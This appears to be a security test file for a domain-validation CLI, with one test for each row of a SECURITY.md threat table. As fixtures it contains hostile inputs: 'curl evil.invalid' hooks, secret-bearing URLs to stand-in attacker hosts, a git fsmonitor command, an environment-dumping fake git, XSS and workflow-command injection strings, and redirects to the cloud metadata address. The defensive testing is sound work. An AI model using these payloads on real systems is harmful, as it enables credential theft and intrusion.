/** Each row of the threat table of SECURITY.md has a test of its name here, and each test has its row. */
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { viewFile } from "../../lib/dns/challenge-file";
import { readJournal } from "../../lib/state/journal";
import { dcv } from "../support/cli";
import type { CliResult } from "../support/cli";
import { leaks, SECRETS } from "../support/planted-secrets";
import { simulate } from "../support/scenarios";
import { REPOSITORY } from "../support/tables";

const AUTH = 'auth: { login: "${SCM_LOGIN}", password: "${SCM_PASSWORD}", customerUri: "${SCM_CUSTOMER_URI}" }';
const providerWith = (settings: string): string => `providers:\n  sectigo: { type: sectigo, ${settings} }\n`;
const file = (rest: string, provider = providerWith(`url: simulator, ${AUTH}`)): string =>
  `version: 1\n${provider}${rest}`;
/** What the embedded CA accepts. */
const DEMO = providerWith("url: simulator, auth: { login: demo, password: demo, customerUri: demo }");
const DOMAINS = "domains: [www.example.com]\n";
const RULE = `id: ours
title: Ours
severity: error
source: { document: Ours }
effective: { from: null }
when: {}
require: { required: [owner], properties: { owner: { type: string, pattern: "^x$" } } }
message: not ours
remediation: none
`;

/** The checkout of a change, and a folder of the machine beside it. */
let checkout: string;
let machine: string;
beforeEach(() => {
  checkout = realpathSync(mkdtempSync(join(tmpdir(), "dcv-checkout-")));
  machine = realpathSync(mkdtempSync(join(tmpdir(), "dcv-machine-")));
  execFileSync("git", ["init", "-q"], { cwd: checkout });
});
afterEach(() => [checkout, machine].forEach((path) => rmSync(path, { recursive: true })));

function write(name: string, text: string, root = checkout): void {
  mkdirSync(dirname(join(root, name)), { recursive: true });
  writeFileSync(join(root, name), text);
}

/** Runs the command over the checkout with the secrets in its environment; none of them comes out. */
async function run(
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
  cwd = checkout,
): Promise<CliResult> {
  const result = await dcv(args, { cwd, env: { ...SECRETS, ...env } });
  expect(leaks(result.stdout + result.stderr, SECRETS)).toEqual([]);
  return result;
}

async function expectRefused(
  args: readonly string[],
  code: string,
  env: Readonly<Record<string, string>> = {},
): Promise<string> {
  const result = await run(args, env);
  expect([result.code, result.stderr]).toEqual([1, expect.stringContaining(code)]);
  return result.stderr;
}

/** A host that counts what it is asked. */
async function stranger<T>(use: (url: string, seen: () => number) => Promise<T>): Promise<T> {
  let connections = 0;
  const server = createServer().on("connection", (socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  try {
    return await use(`127.0.0.1:${(server.address() as AddressInfo).port}`, () => connections);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

const THREATS: Readonly<Record<string, () => Promise<void>>> = {
  async "`url` names a host of a stranger"() {
    // 127.0.0.1 as the host of a proxy that sees every call which leaves this machine.
    await stranger(async (address, seen) => {
      write("domains.yaml", file(DOMAINS, providerWith(`url: "https://evil.invalid/api", ${AUTH}`)));
      for (const command of ["plan", "check", "list", "synth", "import"]) {
        const { code, stderr } = await run([command], { https_proxy: `http://${address}` });
        expect([command, code, stderr]).toEqual([command, 1, expect.stringContaining("host-not-allowed")]);
      }
      expect(seen()).toBe(0);
    });
  },
  async "`tokenUrl` names a host of a stranger"() {
    const auth =
      'auth: { clientId: "${SCM_CLIENT_ID}", clientSecret: "${SCM_CLIENT_SECRET}", tokenUrl: "https://evil.invalid/token" }';
    await stranger(async (address, seen) => {
      write("domains.yaml", file(DOMAINS, providerWith(auth)));
      const { code, stderr } = await run(["plan"], { https_proxy: `http://${address}` });
      expect([code, stderr, seen()]).toEqual([1, expect.stringContaining("host-not-allowed"), 0]);
    });
  },
  async "a secret is part of the host in `url`"() {
    for (const host of ["${SCM_PASSWORD}.evil.invalid", "${SCM_LOGIN}.cert-manager.com", "evil.invalid/${SCM_LOGIN}"]) {
      write("domains.yaml", file(DOMAINS, providerWith(`url: "https://${host}", ${AUTH}`)));
      expect((await run(["plan"])).stderr).toMatch(/host-not-allowed|bad-url/);
    }
  },
  async "a secret is part of the path in `url`"() {
    const { url } = await simulate("version: 1\n");
    const other = { OTHER: "Zq4-other.Wm8" };
    write("domains.yaml", file(DOMAINS, providerWith(`url: "${url}/\${OTHER}/api", retries: 0, ${AUTH}`)));
    const { stdout, stderr } = await run(["plan", "--output", "json", "--log-level", "debug"], other);
    expect(stderr).toContain("/[redacted]/api");
    expect(leaks(stdout + stderr, other)).toEqual([]);
  },
  async "`${SECRET}` in an owner, a label, the estate, a waiver, a path or a name"() {
    const waiver = (text: string): string =>
      `waivers: [{ rule: not-validated, domain: www.example.com, reason: ${text}, owner: o, expires: 2026-12-31 }]\n`;
    const reference = '"${SCM_PASSWORD}"';
    for (const text of [
      `domains: [{ name: www.example.com, owner: ${reference} }]\n`,
      `domains: [{ name: www.example.com, labels: { env: ${reference} } }]\n`,
      `defaults: { owner: ${reference} }\n${DOMAINS}`,
      `estate: ${reference}\n${DOMAINS}`,
      waiver(reference) + DOMAINS,
      `include: [${reference}]\n${DOMAINS}`,
      `policies: { paths: [${reference}] }\n${DOMAINS}`,
      `domains: [${reference}]\n`,
    ]) {
      write("domains.yaml", file(text));
      await expectRefused(["plan", "--output", "json", "--output", "html=plan.html"], "misplaced-reference");
    }
  },
  async "`${SECRET}` in the place of a number, a word or a key of a provider"() {
    for (const settings of [
      'retries: "${SCM_PASSWORD}"',
      'type: "${SCM_PASSWORD}"',
      'org: "${SCM_PASSWORD}"',
      '"${SCM_PASSWORD}": 1',
    ]) {
      write("domains.yaml", file(DOMAINS, providerWith(`${settings}, ${AUTH}`)));
      expect((await run(["plan", "--output", "json"])).code).toBe(1);
    }
  },
  async "`include` leads out of the repository"() {
    write("theirs.yaml", `${DOMAINS}secret: hunter2\n`, machine);
    symlinkSync(machine, join(checkout, "teams"));
    write("domains.yaml", file(`include: [teams/*.yaml]\n${DOMAINS}`));
    expect(await expectRefused(["plan"], "outside of the repository")).not.toContain("hunter2");
  },
  async "`policies.paths` leads out of the repository"() {
    write("rule.yaml", RULE.replace("not ours", "hunter2"), machine);
    symlinkSync(join(machine, "rule.yaml"), join(checkout, "rule.yaml"));
    for (const path of ["rule.yaml", join(machine, "rule.yaml")]) {
      write("domains.yaml", file(`policies: { paths: [${path}] }\n${DOMAINS}`));
      expect(await expectRefused(["plan"], "leads out of the repository")).not.toContain("hunter2");
    }
  },
  async "`domains.yaml` is a link out of the repository"() {
    write("passwd", "root:hunter2\n", machine);
    symlinkSync(join(machine, "passwd"), join(checkout, "domains.yaml"));
    expect(await expectRefused(["validate"], "outside of the repository")).not.toContain("hunter2");
  },
  async "`include` or `policies.paths` names a file of another program"() {
    write("token.yaml", "registry: { token: hunter2 }\n- broken\n");
    for (const text of ["include: [token.yaml]\n", "policies: { paths: [token.yaml] }\n"]) {
      write("domains.yaml", file(text + DOMAINS));
      const { code, stdout, stderr } = await run(["plan"]);
      expect([code, stdout + stderr]).toEqual([1, expect.not.stringContaining("hunter2")]);
    }
  },
  async "an output is a link out of the repository"() {
    write("profile", "theirs", machine);
    symlinkSync(join(machine, "profile"), join(checkout, "plan.json"));
    write("domains.yaml", file(DOMAINS));
    await expectRefused(["plan", "--output", "json=plan.json"], "outside of the repository");
    expect(readFileSync(join(machine, "profile"), "utf8")).toBe("theirs");
  },
  async "a state or a new file of `init` is a link out of the repository"() {
    symlinkSync(join(machine, "new"), join(checkout, "state.jsonl"));
    symlinkSync(machine, join(checkout, "estate"));
    write("domains.yaml", file(DOMAINS));
    const before = readdirSync(machine);
    for (const args of [
      ["refresh", "--state", "state.jsonl"],
      ["plan", "--state", "estate/state.jsonl"],
      ["state", "merge", "--state", "state.jsonl", "state.1.jsonl"],
      ["init", "--type", "sectigo", "--url", "simulator", "--output", "estate/new.yaml"],
    ]) {
      await expectRefused(args, "outside of the repository");
    }
    expect(readdirSync(machine)).toEqual(before);
  },
  async "an output is a link to a file that is read"() {
    symlinkSync("domains.yaml", join(checkout, "plan.json"));
    write("domains.yaml", file(DOMAINS));
    await expectRefused(["plan", "--output", "json=plan.json"], "which is read");
    expect(readFileSync(join(checkout, "domains.yaml"), "utf8")).toBe(file(DOMAINS));
  },
  async "the folder of `synth` is a link out of the repository"() {
    symlinkSync(machine, join(checkout, "stack"));
    write("domains.yaml", file(DOMAINS, DEMO));
    for (const out of ["stack", "stack/a/b"]) await expectRefused(["synth", "--out", out], "outside of the repository");
    write("cdk.tf.json", "theirs", machine);
    for (const [link, target] of [
      ["out/stacks/dcv", ""],
      ["third/manifest.json", "new"],
    ] as const) {
      mkdirSync(join(checkout, dirname(link)), { recursive: true });
      symlinkSync(join(machine, target), join(checkout, link));
      await expectRefused(["synth", "--out", link.split("/")[0] ?? ""], "outside of the repository");
    }
    // A link in the place of the stack is removed as an old stack is; what it leads to stays.
    const stack = join(checkout, "other/stacks/dcv/cdk.tf.json");
    mkdirSync(dirname(stack), { recursive: true });
    symlinkSync(join(machine, "cdk.tf.json"), stack);
    expect(await run(["synth", "--out", "other"])).toMatchObject({ code: 0 });
    expect(lstatSync(stack).isSymbolicLink()).toBe(false);
    expect(readdirSync(machine)).toEqual(["cdk.tf.json"]);
    expect(readFileSync(join(machine, "cdk.tf.json"), "utf8")).toBe("theirs");
  },
  async "a rule that takes exponential time"() {
    const slow = RULE.replace('"^x$"', '"^(\\\\w+\\\\.?)+!$"');
    write("rule.yaml", slow);
    const owner = "a".repeat(200);
    write(
      "domains.yaml",
      file(`policies: { paths: [rule.yaml] }\ndomains: [{ name: www.example.com, owner: ${owner} }]\n`, DEMO),
    );
    const { stdout, stderr } = await run(["plan"]);
    expect(stdout + stderr).toContain("not ours"); // judged, within the time of a test
  },
  async "aliases of YAML that unfold without end"() {
    const lines = Array.from({ length: 30 }, (_, n) => `x-${n}: &a${n} [${n === 0 ? "1" : `*a${n - 1}, *a${n - 1}`}]`);
    write("domains.yaml", file(`${lines.join("\n")}\n${DOMAINS}`));
    const { code, stderr } = await run(["validate"]);
    expect([code, stderr]).toEqual([1, expect.stringMatching(/alias/)]);
  },
  async "a plan for `render` that is forged"() {
    write("domains.yaml", file("domains: [{ name: www.example.com, owner: team-x }]\n"));
    await run(["plan", "--output", "json=plan.json"]);
    const plan = readFileSync(join(checkout, "plan.json"), "utf8");
    const verdict = /"verdict": "(\w+)"/.exec(plan)?.[1] ?? "";
    expect(verdict).not.toBe("pass");
    write("green.json", plan.replace(`"verdict": "${verdict}"`, '"verdict": "pass"'));
    await expectRefused(["render", "green.json"], "bad-plan");
    write("script.json", plan.replaceAll("team-x", "<script>alert(1)</script>\\n::set-env name=X::y"));
    const { stdout } = await run(["render", "script.json", "--output", "github", "--output", "html=page.html"]);
    expect(stdout).not.toMatch(/^\s*::set-env/m);
    expect(readFileSync(join(checkout, "page.html"), "utf8")).toContain("alert(1)");
    expect(readFileSync(join(checkout, "page.html"), "utf8")).not.toContain("<script>alert");
  },
  async "owners and labels that are commands or markup"() {
    const hostile = '"::add-mask::x\\n::error::y <img src=x onerror=alert(1)> | `x` @team"';
    write("domains.yaml", file(`domains: [{ name: nowhere.example.com, owner: ${hostile} }]\n`));
    const outputs = ["github", "html=a.html", "markdown=a.md"].flatMap((one) => ["--output", one]);
    const { stdout, stderr } = await run(["plan", ...outputs]);
    expect(stdout + stderr).not.toMatch(/^\s*::add-mask|^\s*::error::y/m);
    const page = readFileSync(join(checkout, "a.html"), "utf8");
    expect(page).toContain("onerror=alert(1)");
    expect(page).not.toContain("<img src=x");
  },
  async "a folder that looks like a bare Git repository, with hooks and commands of its own"() {
    write("estates/domains.yaml", file(DOMAINS));
    write("estates/HEAD", "ref: refs/heads/main\n");
    write("estates/refs/.keep", "");
    write("estates/objects/.keep", "");
    const command = `touch ${join(machine, "run")}; false`;
    write("estates/config", `[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "${command}"\n`);
    const cwd = join(checkout, "estates");
    const PATH = process.env.PATH ?? "";
    const { code, stderr } = await run(["plan", "--changed-since", "main"], { PATH }, cwd);
    expect([code, stderr]).toEqual([1, expect.stringContaining("safe.bareRepository")]);
    expect(readdirSync(machine)).toEqual([]);
  },
  async "what Git runs sees the environment"() {
    write("domains.yaml", file(DOMAINS));
    write("git", `#!/bin/sh\nenv > ${join(machine, "seen")}\nexit 1\n`, machine);
    chmodSync(join(machine, "git"), 0o755);
    await run(["plan", "--changed-since", "main"], { PATH: `${machine}:${process.env.PATH ?? ""}` });
    const seen = readFileSync(join(machine, "seen"), "utf8");
    expect(seen).toContain("PATH=");
    expect(leaks(seen, SECRETS)).toEqual([]);
  },
  async "a proxy or a command of its choice"() {
    for (const text of [
      file(DOMAINS, providerWith(`proxy: "http://evil.invalid:3128", ${AUTH}`)),
      file(DOMAINS, providerWith(`exec: "curl evil.invalid", ${AUTH}`)),
      file(`dns: { hook: "curl evil.invalid" }\n${DOMAINS}`),
    ]) {
      write("domains.yaml", text);
      await expectRefused(["plan"], "unknown-key");
    }
    write(".env", "HTTPS_PROXY=http://evil.invalid:3128\nDCV_ALLOWED_HOSTS=evil.invalid\n");
    write("domains.yaml", file(DOMAINS, providerWith(`url: "https://evil.invalid/api", ${AUTH}`)));
    await expectRefused(["plan"], "host-not-allowed");
  },
  async "DNS servers of its choice"() {
    const withDns = (dns: string): void => write("domains.yaml", file(`dns: { ${dns} }\n${DOMAINS}`));
    withDns('resolvers: ["https://evil.invalid/${SCM_PASSWORD}"]');
    await expectRefused(["plan"], "host-not-allowed");
    for (const dns of [
      'resolvers: ["${SCM_LOGIN}"]',
      'zones: { example.com: { servers: ["${SCM_LOGIN}.evil.invalid"] } }',
    ]) {
      withDns(dns);
      await expectRefused(["plan"], "bad-server");
    }
  },
  async "a DNS server that is to get signed messages"() {
    const signed = (zone: string): void =>
      write("domains.yaml", file(`dns: { zones: { example.com: { ${zone} } } }\n${DOMAINS}`));
    const key = { DNS_TSIG: `dcv-key:${Buffer.alloc(32, 5).toString("base64")}` };
    for (const zone of [
      'tsig: "${DNS_TSIG}", primary: 192.0.2.7',
      'tsig: "${DNS_TSIG}", servers: [192.0.2.7]',
      'tsig: "${DNS_TSIG}", primary: 127.0.0.1, servers: [192.0.2.7], signQuestions: true',
    ]) {
      signed(zone);
      await expectRefused(["plan"], "host-not-allowed", key);
    }
    signed('tsig: "${SCM_PASSWORD}", primary: 127.0.0.1');
    await expectRefused(["plan"], "bad-tsig");
  },
  async "an included file with providers of its own"() {
    write("team.yaml", `${providerWith(`url: simulator, ${AUTH}`)}${DOMAINS}`);
    write("domains.yaml", file("include: [team.yaml]\n"));
    await expectRefused(["plan"], "misplaced-key");
  },
  async "a waiver for everything"() {
    for (const [domain, expires, problem] of [
      ["'*.com'", "2026-12-31", "public suffix"],
      ["www.example.com", "2099-12-31", "days"],
    ]) {
      const waiver = `waivers: [{ rule: not-validated, domain: ${domain}, reason: r, owner: o, expires: ${expires} }]\n`;
      write("domains.yaml", file(waiver + DOMAINS));
      await expectRefused(["plan"], problem ?? "");
    }
  },
  async "keys of a domain that change what is asked of the CA"() {
    const ca = await simulate("version: 1\nsectigo: { domains: [{ domain: www.example.com }] }");
    const provider = providerWith(`url: "${ca.url}/api", auth: { login: demo, password: demo, customerUri: demo }`);
    const keys =
      "email: admin@example.com, registerOrg: 7, dnsProviderName: x, dnsAgentUUID: 0123456789abcdef0123456789abcdef";
    write(
      "domains.yaml",
      file(`domains: [{ name: www.example.com, ${keys} }, { name: a.example.com, ${keys} }]\n`, provider),
    );
    expect((await run(["plan"])).code).toBe(3);
    expect(ca.acts).toEqual([]);
    expect(JSON.stringify(ca.requests)).not.toMatch(/admin@example|0123456789abcdef|registerOrg/);
  },
  async "settings that flood the CA"() {
    for (const setting of ["concurrency: 1000000", "retries: 1000000"]) {
      write("domains.yaml", file(DOMAINS, providerWith(`${setting}, ${AUTH}`)));
      await expectRefused(["plan"], "expected a whole number from");
    }
  },
  async "a program of the checkout in the place of `dcv`"() {
    const examples = ["github", "gitlab", "jenkins", "pre-commit"].flatMap((folder) =>
      readdirSync(join(REPOSITORY, "examples", folder)).map((name) => join(REPOSITORY, "examples", folder, name)),
    );
    expect(examples.length).toBeGreaterThan(3);
    for (const path of [...examples, join(REPOSITORY, "action.yml")]) {
      // `npx dcv` runs node_modules/.bin/dcv of the checkout, or whoever owns that name at the registry.
      expect([path, readFileSync(path, "utf8")]).toEqual([path, expect.not.stringMatching(/\bnpx (?!--no-install)/)]);
    }
    await Promise.resolve();
  },
  async "a hook of its choice for publishing"() {
    for (const key of ["hook", "program", "command"]) {
      const zones = `dns: { zones: { example.com: { publish: exec, ${key}: ./x.sh } } }\n`;
      write("domains.yaml", file(zones + DOMAINS));
      await expectRefused(["validate"], key);
    }
  },
  async "a file of a challenge that leads into the own network"() {
    let asked = 0;
    const server = createServer((_, response) => {
      asked += 1;
      response.writeHead(302, { location: "http://169.254.169.254/latest" }).end();
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    const connectTo = { host: "127.0.0.1", port: (server.address() as AddressInfo).port };
    const options = { signal: new AbortController().signal, connectTo };
    for (const [host, count] of [
      ["169.254.169.254", 0],
      ["localhost", 0],
      ["www.example.com", 1],
    ] as const) {
      const { problem } = await viewFile(`http://${host}/x`, "x", options);
      expect([problem, asked]).toEqual(["the address names no public host", count]);
    }
    await new Promise((done) => server.close(done));
  },
  async "the journal is a link to a file of another program"() {
    write("notes", "keep\n", machine);
    const path = join(checkout, "plan.json.journal");
    symlinkSync(join(machine, "notes"), path);
    const read = await readJournal(path, "plan.json.journal");
    expect(read).toMatchObject({ ok: false, problem: expect.stringContaining("this is no journal of dcv apply") });
    expect(readFileSync(join(machine, "notes"), "utf8")).toBe("keep\n");
  },
};

/** The first cells of the threat table. */
function rowsOfTable(): readonly string[] {
  const page = readFileSync(join(REPOSITORY, "SECURITY.md"), "utf8");
  const table = /^\| the change .*\n\|[ -|]*\n((?:\|.*\n)+)/m.exec(page)?.[1] ?? "";
  return table
    .trim()
    .split("\n")
    .map((row) => (row.split(" | ")[0] ?? "").replace(/^\|\s*/, "").trim());
}

test("each row of the table has its test, and each test its row", () => {
  expect(rowsOfTable()).toEqual(Object.keys(THREATS));
});

test.each(Object.entries(THREATS))("%s", async (_, holds) => holds());
